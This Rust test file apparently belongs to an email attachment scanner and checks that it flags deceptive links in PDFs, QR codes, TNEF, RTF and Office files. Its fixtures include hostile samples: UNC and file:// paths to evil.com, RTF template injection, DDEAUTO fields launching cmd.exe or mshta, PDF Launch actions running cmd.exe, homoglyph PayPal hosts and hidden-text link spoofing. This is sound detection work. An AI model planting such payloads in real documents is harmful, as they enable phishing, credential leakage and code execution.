//! Links in PDFs and in pictures.

use super::*;

#[test]
fn a_pdf_is_reported_and_left_as_it_is() {
    let inspected = |document: &str| {
        let head = b"Content-Type: application/pdf; name=x.pdf\r\n";
        let message = Message { head, body: document.as_bytes() };
        inspect(message, &Facts::default(), &policy(), &tlds()).resolve(&Answers::new())
    };
    let outcome = inspected(
        "%PDF-1.7\n1 0 obj << /S /URI /URI (https://p\u{430}ypal.com/x) >> endobj\n%%EOF",
    );
    let [finding] = outcome.findings.as_slice() else { panic!("{:?}", outcome.findings) };
    assert_eq!((finding.verdict, finding.done), (Verdict::Unsafe, Done::Reported));
    assert_eq!(
        (finding.place.to_string().as_str(), finding.target.as_deref()),
        ("pdf[uri]", Some("paypal.com"))
    );
    assert_eq!((outcome.edits.len(), outcome.bypasses.len(), outcome.links), (0, 0, 1));
    // A dangerous scheme is one here as well, and a harmless link is counted.
    let outcome =
        inspected("%PDF-1.7\n<< /URI (javascript:x) >> << /URI (https://www.example.com) >>");
    assert_eq!((outcome.verdict, outcome.links), (Verdict::Unsafe, 2));
    assert_eq!(outcome.passed, ["www.example.com"]);
    // An unreadable PDF stays opaque, and a part that is no PDF is not read.
    assert_eq!(inspected("%PDF-1.7\n<< /Encrypt 1 0 R >>").bypasses.len(), 1);
    let other = inspected("PK\u{3} /URI (https://www.example.com)");
    assert_eq!((other.bypasses.len(), other.links), (1, 0));
}

/// Programs open a file by its name or by its bytes; the label decides nothing.
#[test]
fn a_pdf_is_read_whatever_its_label_says() {
    let document = "%PDF-1.7\n% <a> <html>\n<< /URI (https://p\u{430}ypal.com/x) >>\n";
    for label in [
        "application/pdf",
        "application/octet-stream",
        "application/octet-stream; name=x.pdf",
        "image/png; name=x.pdf",
        "text/plain; name=x.pdf",
        "application/zip",
    ] {
        let head = format!("Content-Type: {label}\r\n");
        let message = Message { head: head.as_bytes(), body: document.as_bytes() };
        let outcome =
            inspect(message, &Facts::default(), &policy(), &tlds()).resolve(&Answers::new());
        let places: Vec<String> =
            outcome.findings.iter().map(|finding| finding.place.to_string()).collect();
        assert!(places.contains(&"pdf[uri]".to_owned()), "{label}: {places:?}");
    }
}

/// Of two parts of one path, the one that was read removes only its own record.
#[test]
fn a_part_that_is_read_removes_no_record_of_another() {
    let opaque = || ("1".to_owned(), crate::outcome::Bypass::Opaque);
    let mut found = crate::finding::Findings::new(vec![opaque(), opaque()]);
    found.has_read("1");
    found.has_read("2");
    assert_eq!(found.bypasses, [opaque()]);
}

/// A code that leads to a deceptive host is reported if the policy asks for it, and nothing is edited.
#[test]
fn a_code_in_a_picture_is_reported_and_left_as_it_is() {
    let code = qrcode::QrCode::new("https://p\u{430}ypal.com/x").unwrap();
    let (side, colours) = (code.width(), code.to_colors());
    let picture = image::GrayImage::from_fn(300, 300, |x, y| {
        let module = |at: u32| usize::try_from(at / 6).unwrap().checked_sub(4);
        let inside = module(x).zip(module(y)).filter(|(x, y)| *x < side && *y < side);
        let dark = inside.is_some_and(|(x, y)| colours[y * side + x] == qrcode::Color::Dark);
        image::Luma([if dark { 0 } else { 255 }])
    });
    let mut bytes = std::io::Cursor::new(Vec::new());
    picture.write_to(&mut bytes, image::ImageFormat::Png).unwrap();
    let bytes = bytes.into_inner();
    let inspected = |qr_codes: crate::policy::QrCodes, body: &[u8]| {
        let head = b"Content-Type: image/png\r\nContent-Transfer-Encoding: binary\r\n";
        let policy = Policy { qr_codes, ..policy() };
        let message = Message { head, body };
        inspect(message, &Facts::default(), &policy, &tlds()).resolve(&Answers::new())
    };
    let outcome = inspected(crate::policy::QrCodes::Report, &bytes);
    let [finding] = outcome.findings.as_slice() else { panic!("{:?}", outcome.findings) };
    assert_eq!((finding.verdict, finding.done), (Verdict::Unsafe, Done::Reported));
    assert_eq!(finding.place.to_string(), "qr[code]");
    assert_eq!((outcome.edits.len(), outcome.bypasses.len()), (0, 0));
    let cut = inspected(crate::policy::QrCodes::Report, &bytes[..bytes.len() / 2]);
    assert_eq!(
        (cut.findings.len(), cut.bypasses.len()),
        (0, 1),
        "what could not be looked at is inspected"
    );
    let off = inspected(crate::policy::QrCodes::Off, &bytes);
    assert_eq!((off.findings.len(), off.bypasses.len()), (0, 0));
    // A page with the picture inside it, percent-encoded.
    let escaped: String = bytes.iter().map(|byte| format!("%{byte:02X}")).collect();
    let page = |qr_codes, picture: &str| {
        let body = format!("<p>hi<img src=\"data:image/png,{picture}\">\r\n");
        let head = b"Content-Type: text/html\r\n";
        let policy = Policy { qr_codes, ..policy() };
        let message = Message { head, body: body.as_bytes() };
        inspect(message, &Facts::default(), &policy, &tlds()).resolve(&Answers::new())
    };
    let outcome = page(crate::policy::QrCodes::Report, &escaped);
    let [finding] = outcome.findings.as_slice() else { panic!("{:?}", outcome.findings) };
    let reported = (finding.verdict, finding.done, finding.place.to_string());
    assert_eq!(reported, (Verdict::Unsafe, Done::Reported, "qr[code]".to_owned()));
    assert_eq!((outcome.edits.len(), outcome.bypasses.len()), (0, 0));
    let cut = page(crate::policy::QrCodes::Report, &escaped[..escaped.len() / 2]);
    assert_eq!((cut.findings.len(), cut.bypasses.len()), (0, 1));
    let off = page(crate::policy::QrCodes::Off, &escaped);
    assert_eq!((off.findings.len(), off.bypasses.len()), (0, 0));
}

/// An ordinary picture of few bytes has more pixels than its message has steps: it is searched, and the message read in
/// full. What is beyond the pixels of a message is `opaque`, and never a limit.
#[test]
fn pixels_take_no_steps() {
    let inspected = |width: u32, height: u32, times: usize| {
        let picture = image::GrayImage::from_pixel(width, height, image::Luma([200]));
        let mut bytes = std::io::Cursor::new(Vec::new());
        picture.write_to(&mut bytes, image::ImageFormat::Png).unwrap();
        let hex: String = bytes.into_inner().iter().map(|byte| format!("={byte:02X}")).collect();
        let part = format!(
            "--b\r\nContent-Type: image/png\r\n\
             Content-Transfer-Encoding: quoted-printable\r\n\r\n{hex}\r\n"
        );
        let body = format!("{}--b--\r\n", part.repeat(times));
        let message = Message {
            head: b"Content-Type: multipart/mixed; boundary=b\r\n",
            body: body.as_bytes(),
        };
        let policy = Policy { qr_codes: crate::policy::QrCodes::Report, ..policy() };
        inspect(message, &Facts::default(), &policy, &tlds()).resolve(&Answers::new()).bypasses
    };
    assert_eq!(inspected(1_920, 1_080, 1), []);
    assert_eq!(inspected(800, 600, 12), []);
    let beyond = inspected(2_000, 2_000, 6);
    assert_eq!(beyond.len(), 2);
    assert!(beyond.iter().all(|(_, why)| *why == crate::outcome::Bypass::Opaque), "{beyond:?}");
}

/// What Exchange and Outlook show of a message of their own format.
#[test]
fn a_tnef_file_is_reported_and_left_as_it_is() {
    let attribute = |text: &str| {
        let (id, length) = (0x0002_800C_u32.to_le_bytes(), u32::try_from(text.len()).unwrap());
        [&[1][..], &id, &length.to_le_bytes(), text.as_bytes(), &[0, 0]].concat()
    };
    let inspected = |label: &str, text: &str| {
        let head = format!("Content-Type: {label}; name=winmail.dat\r\n");
        let body = [&[0x78, 0x9F, 0x3E, 0x22, 1, 0][..], &attribute(text)].concat();
        let message = Message { head: head.as_bytes(), body: &body };
        inspect(message, &Facts::default(), &policy(), &tlds()).resolve(&Answers::new())
    };
    for label in ["application/ms-tnef", "application/vnd.ms-tnef", "application/octet-stream"] {
        let outcome = inspected(label, "see https://p\u{430}ypal.com/x and www.example.com");
        let [finding] = outcome.findings.as_slice() else { panic!("{:?}", outcome.findings) };
        assert_eq!((finding.verdict, finding.done), (Verdict::Unsafe, Done::Reported));
        assert_eq!(finding.place.to_string(), "tnef[body]");
        assert_eq!((outcome.edits.len(), outcome.bypasses.len(), outcome.links), (0, 0, 2));
        assert!(outcome.passed.contains(&"www.example.com".to_owned()));
    }
}

/// Word opens RTF by its first bytes, and follows its fields.
#[test]
fn a_file_of_rtf_is_reported_and_left_as_it_is() {
    let inspected = |head: &str, rtf: &str| {
        let message = Message { head: head.as_bytes(), body: rtf.as_bytes() };
        inspect(message, &Facts::default(), &policy(), &tlds()).resolve(&Answers::new())
    };
    let field = |url: &str| {
        format!(
            "{{\\rtf1\\ansi{{\\field{{\\*\\fldinst HYPERLINK \"{url}\"}}{{\\fldrslt Log in}}}}}}"
        )
    };
    let heads = [
        "Content-Type: text/rtf; name=x.rtf\r\n",
        "Content-Type: application/rtf\r\n",
        "Content-Type: application/msword; name=x.doc\r\n",
        "Content-Type: text/plain; name=x.doc\r\n",
        "Content-Type: application/msword\r\nContent-Transfer-Encoding: quoted-printable\r\n",
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n",
    ];
    let urls = [
        "https://\\u1088?\\u1072?ypal.com",
        "https://xn--yp{}al-43d9g.com",
        "https://xn--yp{\\*\\x y}al-43d9g.com",
        "https://\\u1088\\'70\\u1072\\'61ypal.com/",
    ];
    for head in heads {
        for url in urls {
            let outcome = inspected(head, &field(url));
            let reported = outcome.findings.iter().any(|it| {
                it.place.to_string() == "rtf[text]"
                    && (it.verdict, it.done) == (Verdict::Unsafe, Done::Reported)
                    && it.target.as_deref() == Some("paypal.com")
            });
            assert!(reported, "{head} {url} {:?}", outcome.findings);
            assert!(outcome.edits.is_empty(), "{head} {url}");
        }
        let outcome = inspected(head, &field("https://www.example.com/"));
        assert!(outcome.findings.is_empty(), "{head} {:?}", outcome.findings);
    }
    // What a field shows may be another host than that it leads to.
    let shown = |host: &str| field("https://fine.example/").replace("Log in", host);
    for (host, verdict) in [("www.paypal.com", Some(Verdict::Suspect)), ("fine.example", None)] {
        let outcome = inspected(heads[1], &shown(host));
        let verdicts = outcome.findings.iter().map(|it| it.verdict).max();
        assert_eq!(verdicts, verdict, "{:?}", outcome.findings);
    }
    // A file inside it may be anything.
    let embeds = "{\\rtf1{\\object{\\*\\objdata 0105}}}";
    assert_eq!(inspected(heads[1], embeds).bypasses.len(), 1);
    assert_eq!(inspected(heads[1], &field("https://www.example.com/")).bypasses.len(), 0);
}

/// The worst verdict of findings in a file, which is left as it is.
fn worst_in(label: &str, file: &[u8]) -> Option<Verdict> {
    let head = format!("Content-Type: {label}\r\nContent-Transfer-Encoding: binary\r\n");
    let message = Message { head: head.as_bytes(), body: file };
    let recipient_domains = vec!["harbour.com".to_owned()];
    let facts = Facts { recipient_domains, ..Facts::default() };
    let outcome = inspect(message, &facts, &policy(), &tlds()).resolve(&Answers::new());
    assert_eq!(outcome.edits, []);
    outcome.findings.iter().map(|one| one.verdict).max()
}

#[test]
fn hyperlinks_of_office_files_that_are_text_are_compared() {
    let sheet = |cell: &str| {
        let head = "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook \
            xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" \
            xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">";
        format!(
            "{head}<Worksheet ss:Name=\"a\"><Table><Row>{cell}</Row></Table></Worksheet></Workbook>"
        )
    };
    let cell = |shown: &str| {
        sheet(&format!(
            "<Cell ss:HRef=\"https://fine.example/a\"><Data ss:Type=\"String\">{shown}</Data></Cell>"
        ))
    };
    let letter = |shown: &str| {
        format!(
            "<?mso-application progid=\"Word.Document\"?><w:wordDocument \
            xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:body><w:p>\
            <w:hlink w:dest=\"https://fine.example/a\"><w:r><w:t>{shown}</w:t></w:r></w:hlink></w:p></w:body>\
            </w:wordDocument>"
        )
    };
    let open = |shown: &str| {
        format!(
            "<office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\"><text:p>\
            <text:a xlink:href=\"https://fine.example/a\">{shown}</text:a></text:p></office:document>"
        )
    };
    let table = |shown: &str| {
        format!(
            "Invoice,Pay\r\n1,\"=HYPERLINK(\"\"https://fine.example/a\"\",\"\"{shown}\"\")\"\r\n"
        )
    };
    type File<'f> = &'f dyn Fn(&str) -> String;
    let files: [(&str, File<'_>); 6] = [
        ("text/csv; name=x.csv", &table),
        ("application/octet-stream; name=x.csv", &table),
        ("application/vnd.ms-excel; name=x.xls", &cell),
        ("application/xml; name=x.doc", &letter),
        ("application/msword; name=x.doc", &letter),
        ("application/vnd.oasis.opendocument.text; name=x.fodt", &open),
    ];
    for (label, file) in files {
        let worst = |shown: &str| worst_in(label, file(shown).as_bytes());
        assert_eq!(worst("www.paypal.com"), Some(Verdict::Suspect), "{label}");
        for fine in ["www.fine.example", "Pay now", "www.unknown.example"] {
            assert!(worst(fine) < Some(Verdict::Suspect), "{label} {fine}");
        }
    }
    assert!(
        worst_in("text/csv", b"a,b\r\nwww.paypal.com,https://fine.example/a\r\n")
            < Some(Verdict::Suspect)
    );
}

/// A field of RTF with this instruction, as it is typed.
fn rtf_with(instruction: &str, shown: &str) -> Option<Verdict> {
    let instruction = instruction.replace('\\', "\\\\");
    let rtf = format!(
        "{{\\rtf1\\ansi {{\\field{{\\*\\fldinst {{{instruction}}}}}{{\\fldrslt {shown}}}}}}}"
    );
    worst_in("application/rtf", rtf.as_bytes())
}

/// What is unsafe in a page is unsafe in a field, and so is what a program loads with the file.
#[test]
fn fields_of_rtf_reach_what_links_of_a_page_reach() {
    let reached = [
        r"\\\\evil.com\\s\\x",
        r"\\evil.com\s\x",
        r"\\\\evil.com@80\\s\\x",
        r"\\\\?\\UNC\\evil.com\\s",
        "//evil.com/s/x",
        "file://evil.com/s/x",
        "smb://evil.com/s",
        "search-ms:query=x&crumb=location:evil.com",
        "ms-word:ofe|u|http://evil.com/x.dotm",
        "javascript:alert(1)",
    ];
    for field in [
        "HYPERLINK \"{}\"",
        "hyperlink \"{}\" \\o \"tip\"",
        "HYPERLINK \\o \"tip\" \\n \"{}\"",
        "INCLUDEPICTURE \"{}\" \\d",
        "INCLUDETEXT \"{}\"",
        "IMPORT {}",
        "LINK Word.Document.8 \"{}\" a",
        "RD \"{}\"",
        "DATABASE \\d \"{}\" \\c x",
    ] {
        for url in reached {
            let field = field.replace("{}", url);
            assert_eq!(rtf_with(&field, "x"), Some(Verdict::Unsafe), "{field}");
        }
        for url in [
            r"C:\\Users\\ann\\plan.docx",
            r"\\\\fs01\\plans\\x.docx",
            r"\\\\files.harbour.com\\plans",
            "file:///C:/x.docx",
            "https://www.example.com/",
            "mailto:ann@example.com",
            "cid:1@example.com",
            "x.docx",
        ] {
            let field = field.replace("{}", url);
            assert_eq!(rtf_with(&field, "x"), None, "{field}");
        }
    }
    for honest in [
        r#"EQ \o\ac(\\ ,//x)"#,
        r#"DATE \@ "dd//MM//yyyy""#,
        r#"HYPERLINK \l "_Toc1""#,
        r#"TOC \o "1-3" \h \z \u"#,
        r#"PAGEREF _Toc1 \h"#,
    ] {
        assert_eq!(rtf_with(honest, "x"), None, "{honest}");
    }
}

/// Groups that name a file or a URL, whatever is around them, and fields without a result or in one another.
#[test]
fn groups_of_rtf_reach_a_server() {
    for group in [
        r"{\*\template \\\\evil.com\\s\\x.dot}",
        r"{\*\template file://evil.com/x.dot}",
        r"{\*\hlinkbase \\\\evil.com\\s}",
        r"{\*\filetbl{\file\fid0 \\\\evil.com\\x.rtf}}",
        r"{\shp{\*\shpinst{\sp{\sn pibName}{\sv \\\\evil.com\\x.png}}}}",
        r#"{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\evil.com\\\\x.png"}}"#,
        r#"{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\evil.com\\\\x.png""#,
        r#"{\field{\*\fldinst TOC}{\fldrslt {\field{\*\fldinst HYPERLINK "file://evil.com/x"}{\fldrslt x}}}}"#,
        r#"{\field{\*\fldinst HYPERLINK "file://evil.com/x"}{\fldrslt a{\field{\*\fldinst PAGE}{\fldrslt 1}}}}"#,
    ] {
        let rtf = format!("{{\\rtf1 {group} hi}}");
        assert_eq!(
            worst_in("application/msword", rtf.as_bytes()),
            Some(Verdict::Unsafe),
            "{group}"
        );
    }
    for group in [
        r"{\*\template C:\\Users\\ann\\x.dot}",
        r"{\*\template \\\\fs01\\templates\\x.dot}",
        r"{\*\template https://www.example.com/x.dot}",
        r"{\*\hlinkbase https://www.example.com/}",
        r"{\shp{\*\shpinst{\sp{\sn pVerticies}{\sv 8;4;(0,0);(1,1)}}}}",
    ] {
        let rtf = format!("{{\\rtf1 {group} hi}}");
        assert_eq!(worst_in("application/msword", rtf.as_bytes()), None, "{group}");
    }
}

/// By DDE Word starts the program that a field names.
#[test]
fn programs_that_rtf_runs_are_reported() {
    for run in [
        r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc""#,
        r#"DDE "C:\\Programs\\Excel\\..\\..\\windows\\system32\\mshta" "x""#,
        "DDEAUTO mshta \"http://www.example.com/x\"",
        "ddeauto excel.exe \"x\"",
    ] {
        assert_eq!(rtf_with(run, "x"), Some(Verdict::Unsafe), "{run}");
    }
    // A name that another field puts together.
    let put_together =
        br"{\rtf1{\field{\*\fldinst DDEAUTO {\field{\*\fldinst QUOTE 99 109}{\fldrslt }} x}}}";
    assert_eq!(worst_in("application/rtf", put_together), Some(Verdict::Unsafe));
    for honest in [
        r#"DDEAUTO Excel.Sheet.8 "C:\\x\\plan.xls" "Sheet1!R1C1" \a \t"#,
        r#"DDE Excel "C:\\x.xls" A1"#,
        r#"LINK Excel.Sheet.12 "\\\\fs01\\plan.xlsx" "A1" \a"#,
        "MACROBUTTON NoMacro Type here",
    ] {
        assert_eq!(rtf_with(honest, "x"), None, "{honest}");
    }
}

/// What a link of RTF shows is compared as in a page: its tip, and its text without what is not seen.
#[test]
fn what_a_link_of_rtf_shows_is_what_is_seen() {
    let url = "https://evil.com/x";
    for tip in [
        "HYPERLINK \"{}\" \\o \"https://www.paypal.com/\"",
        "HYPERLINK \\o \"www.paypal.com\" \"{}\"",
    ] {
        let verdict = |url: &str| rtf_with(&tip.replace("{}", url), "Open");
        assert_eq!(verdict(url), Some(Verdict::Suspect), "{tip}");
        assert_eq!(verdict("https://www.paypal.com/x"), None, "{tip}");
    }
    let link = format!("HYPERLINK \"{url}\"");
    for shown in [
        r"https://www.paypal{\v .evil.com/x}.com/signin",
        r"https://www.paypal\v .evil.com/x\v0 .com/signin",
        r"https://www.paypal{\deleted .evil.com/x}.com/signin",
        r"https://www.paypal{\webhidden .evil.com/x}.com/signin",
        r"https://www.paypal{\fs0 .evil.com/x}.com/signin",
        r"https://www.paypal{\fs2\b .evil.com/x}.com/signin",
        r"{\v https://evil.com/}https://www.paypal.com/",
        r"\v https://evil.com/\plain www.paypal.com",
    ] {
        assert_eq!(rtf_with(&link, shown), Some(Verdict::Suspect), "{shown}");
    }
    for shown in [
        r"{\fs24 https://evil}{\b .com/x}",
        r"{\v x}https://evil.com/x",
        r"\v0 https://evil.com/x",
        r"{\v www.paypal.com }Open",
    ] {
        assert_eq!(rtf_with(&link, shown), None, "{shown}");
    }
}

fn pdf_with(objects: &str) -> Option<Verdict> {
    let objects = objects.replace('\\', "\\\\");
    worst_in("application/pdf", format!("%PDF-1.7\n1 0 obj {objects} endobj\n").as_bytes())
}

/// Actions that open a file reach what a link of a page reaches.
#[test]
fn files_of_a_pdf_reach_what_links_of_a_page_reach() {
    for action in [
        "<</S/GoToR/F({})/D[0/Fit]>>",
        "<</AA<</O<</S/GoToR/F<</Type/Filespec/F({})/UF(x.pdf)>>>>>>>>",
        "<</S/GoToE/F<</UF({})>>>>",
        "<</S/Launch/F({})>>",
        "<</S/Launch/Win<</F({})>>>>",
        "<</S/ImportData/F({})>>",
        "<</S/SubmitForm/F<</FS/URL/F({})>>>>",
        "<</S/URI/URI({})>>",
        "({})",
        "<</S/JavaScript/JS(app.openDoc\\('{}'\\))>>",
    ] {
        // The backslash of a bracket is one.
        let action = |url: &str| action.replace("{}", url).replace("\\(", "<").replace("\\)", ">");
        let unc =
            if action("").contains("/JS") { r"\\\\evil.com\\s\\x" } else { r"\\evil.com\s\x" };
        for url in [unc, "file://evil.com/s/x", "smb://evil.com/s"] {
            assert_eq!(pdf_with(&action(url)), Some(Verdict::Unsafe), "{}", action(url));
        }
        for url in [
            "chapter2.pdf",
            "/C/x/y.pdf",
            "C:\\x\\y.pdf",
            "file:///C:/x/y.pdf",
            "file://fs01/x.pdf",
            r"\\fs01\x\y.pdf",
            r"\\files.harbour.com\x",
            "https://www.example.com/",
        ] {
            assert_eq!(pdf_with(&action(url)), None, "{}", action(url));
        }
    }
    let wide: String = "\\\\evil.com\\s".encode_utf16().map(|unit| format!("{unit:04X}")).collect();
    assert_eq!(pdf_with(&format!("<</S/GoToR/F<FEFF{wide}>>>")), Some(Verdict::Unsafe));
    assert_eq!(pdf_with("<</S/GoToR/F(//evil.com/s/x)>>"), Some(Verdict::Unsafe));
    assert_eq!(pdf_with("<</Title(\\\\fs.evil.com\\x.doc)/Contents(//evil.com/x)>>"), None);
}

#[test]
fn programs_that_a_pdf_launches_are_reported() {
    for action in [
        "<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
        "<</S/Launch/Win<</F(cmd)/P(/c calc)>>>>",
        "<</F(../../x.EXE)/S/Launch>>",
        "<</S/Launch/F<</Type/Filespec/UF(run.command)>>>>",
        "<</S/Launch/F 2 0 R>>endobj 2 0 obj<</Type/Filespec/F(C:\\x.bat)>>",
    ] {
        assert_eq!(pdf_with(action), Some(Verdict::Unsafe), "{action}");
    }
    for honest in [
        "<</S/Launch/F(x.pdf)>>",
        "<</S/Launch/Win<</F(C:\\x\\y.docx)/O(open)>>>>",
        "<</S/Launch/Win<</F(x.pdf)>>/F(README)>>",
        "<</Type/Filespec/F(setup.exe)/EF<</F 5 0 R>>>>",
    ] {
        assert_eq!(pdf_with(honest), None, "{honest}");
    }
}

/// The URLs of scripts are judged, not only those that are mimics.
#[test]
fn scripts_of_a_pdf_are_read_as_those_of_a_page() {
    let script = |code: &str| {
        worst_in("application/pdf", format!("%PDF-1.7\n<</S/JavaScript/JS({code})>>").as_bytes())
    };
    let page =
        |code: &str| outcome("text/html", &format!("<p onclick='{code}'>"), &policy()).verdict;
    for code in [
        "app.launchURL(\"https://www.paypal.com.evil.com/x\",true);",
        "this.submitForm({cURL:\"https://www.paypal.com.evil.com/x\"});",
    ] {
        assert_eq!(script(code), Some(Verdict::Suspect), "{code}");
        assert_eq!(page(code), Verdict::Suspect, "{code}");
    }
    for code in [
        "app.launchURL(\"https://www.example.com/x\")",
        "app.alert(\"File: not found, see www.example.com\")",
        "x = \"\\\\\\\\d.x\" // don't: x\\ny('\\\\\\\\w+')",
        "AFDate_FormatEx(\"dd.mm.yyyy\")",
        "AFNumber_Format(2, 0, 0, 0, \"\", true);",
    ] {
        assert_eq!(script(code), None, "{code}");
    }
}
